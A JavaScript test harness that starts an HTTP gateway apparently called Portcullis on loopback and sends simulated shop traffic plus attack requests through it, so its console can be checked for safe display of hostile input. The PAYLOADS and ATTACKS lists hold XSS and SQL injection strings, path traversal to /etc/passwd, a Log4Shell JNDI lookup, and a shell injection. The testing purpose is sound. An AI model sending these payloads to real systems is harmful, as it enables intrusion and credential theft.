// A gateway of its own for the browser's tests: the real binary on free ports with a fresh state folder, a small API
// behind it, and requests through it. Everything is on loopback and ends with the test.
import { spawn } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import http from "node:http";
import net from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { startFront } from "./front.mjs";

/** How long anything may take on a slow machine. Conditions are waited for, never times. */
export const PATIENCE = 60_000;

export const binary = process.env.PORTCULLIS_BIN ?? "../target/debug/portcullis";

/** The pages that stand in the table, read from its source: the walk misses none. */
export const pages = [...readFileSync("src/pages.ts", "utf8").matchAll(/path: "(\/[a-z]+)"/g)].map(([, path]) => path);

/** What attackers leave behind, in a path and in a header, to hit who reads about it. */
export const PAYLOADS = [
  "<script>window.pwned=1</script>",
  "<img src=x onerror=window.pwned=1>",
  '"><svg onload=window.pwned=1>',
  "javascript:window.pwned=1",
  "' UNION SELECT name, password FROM users--",
  "\u202e<b>gnp.exe",
];

const ATTACKS = [
  "/../../etc/passwd",
  "/.git/config",
  "/?x=%24%7Bjndi:ldap://203.0.113.9/a%7D",
  "/?c=;cat%20/etc/passwd",
  "/search?t=%7B%7B7*7%7D%7D",
  "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--",
  "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
];

/** What a browser says of itself. */
const BROWSER = {
  "user-agent": "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
  accept: "application/json, text/plain, */*",
  "accept-language": "en-GB,en;q=0.5",
  "accept-encoding": "gzip, deflate",
};

export async function freePort() {
  const server = net.createServer().listen(0, "127.0.0.1");
  await new Promise((done) => server.once("listening", done));
  const { port } = server.address();
  await new Promise((done) => server.close(done));
  return port;
}

/** Waits until `condition` gives something true, and returns it. */
export async function until(what, condition, patience = PATIENCE) {
  const end = Date.now() + patience;
  for (;;) {
    const got = await condition();
    if (got) return got;
    if (Date.now() > end) throw new Error(`never came: ${what}`);
    await new Promise((done) => setTimeout(done, 50));
  }
}

export class Gateway {
  /**
   * `config` goes over what all have; with `password` there is no one-time password; `prepare` is called with the state's
   * folder before the first start.
   */
  static async start({ config: more = {}, password, prepare } = {}) {
    const gateway = new Gateway();
    gateway.password = password;
    gateway.folder = mkdtempSync(join(tmpdir(), "portcullis-console-"));
    gateway.api = http.createServer((request, response) => {
      request.resume();
      response.setHeader("content-type", "application/json");
      response.end('{"ok":true}');
    });
    await new Promise((done) => gateway.api.listen(0, "127.0.0.1", done));
    [gateway.port, gateway.admin] = [await freePort(), await freePort()];
    const config = {
      listeners: [{ address: `127.0.0.1:${gateway.port}` }],
      admin: { address: `127.0.0.1:${gateway.admin}` },
      trusted_proxies: ["127.0.0.1/32"],
      records: { output: "none" },
      upstreams: { api: { servers: [`http://127.0.0.1:${gateway.api.address().port}`] } },
      routes: [{ name: "api", path: "/", upstream: "api" }],
      behaviour: { enabled: true },
      ...more,
    };
    // JSON is YAML, too.
    writeFileSync(join(gateway.folder, "config.yaml"), JSON.stringify(config));
    try {
      await prepare?.(join(gateway.folder, "state"));
      await gateway.up();
      if (process.env.CONSOLE_SITE) gateway.front = await startFront(process.env.CONSOLE_SITE, gateway.admin);
    } catch (error) {
      await gateway.stop();
      throw error;
    }
    return gateway;
  }

  get url() {
    return `http://127.0.0.1:${this.front?.address().port ?? this.admin}`;
  }

  /** Starts the process; the second time with the same state on the same ports. */
  async up() {
    this.log = "";
    const { PORTCULLIS_ADMIN_PASSWORD: _, ...env } = process.env;
    if (this.password) env.PORTCULLIS_ADMIN_PASSWORD = this.password;
    this.child = spawn(
      binary,
      ["run", "--config", join(this.folder, "config.yaml"), "--state-dir", join(this.folder, "state")],
      { stdio: ["ignore", "ignore", "pipe"], env },
    );
    this.child.stderr.on("data", (data) => {
      this.log += data;
    });
    await until("the gateway's start", () => {
      if (this.child.exitCode !== null) throw new Error(`the gateway ended: ${this.log}`);
      return this.log.includes("console at ");
    });
    await until("readiness", () =>
      fetch(`http://127.0.0.1:${this.admin}/readyz`).then(
        (answer) => answer.ok,
        () => false,
      ),
    );
  }

  /** Ends the process, not the API behind it. */
  async down() {
    const ended = new Promise((done) => this.child.once("exit", done));
    this.child.kill("SIGKILL");
    await ended;
  }

  async stop() {
    if (this.child.exitCode === null) await this.down();
    this.api.close();
    this.api.closeAllConnections();
    this.front?.close();
    this.front?.closeAllConnections();
    rmSync(this.folder, { recursive: true, force: true });
  }

  /** What was printed once for the first log-in. */
  oneTimePassword() {
    const found = /one-time password (\S+)/.exec(this.log);
    if (!found) throw new Error(`no one-time password in: ${this.log}`);
    return found[1];
  }

  /** One request through the gateway as `client`; gives its status. */
  request(target, { client = "192.0.2.10", method = "GET", headers = {}, body } = {}) {
    return new Promise((done, fail) => {
      const request = http.request(
        {
          host: "127.0.0.1",
          port: this.port,
          path: target,
          method,
          headers: { ...BROWSER, "x-forwarded-for": client, ...headers },
        },
        (response) => {
          response.resume();
          response.on("end", () => done(response.statusCode));
        },
      );
      request.on("error", fail);
      request.end(body);
    });
  }

  /** What a shop's clients do, and an attack of each kind, with everything in it that may hurt a reader. */
  async traffic() {
    for (let number = 0; number < 40; number += 1) {
      await this.request(`/api/products/${number}?page=${number % 4}`, { client: `192.0.2.${20 + (number % 9)}` });
    }
    for (const [number, payload] of PAYLOADS.entries()) {
      const client = `198.51.100.${number + 1}`;
      const written = encodeURIComponent(payload);
      await this.request(`/search?q=${written}`, { client });
      await this.request(`/files/${written}`, { client, headers: { referer: `http://x/${written}` } });
      await this.request("/api/login", {
        client,
        method: "POST",
        headers: { "content-type": "application/json" },
        body: JSON.stringify({ user: payload, password: "x" }),
      });
    }
    await this.attacks("198.51.100.77");
  }

  /** One client that tries one thing after the other. */
  async attacks(client) {
    for (const target of ATTACKS) await this.request(target, { client });
  }
}
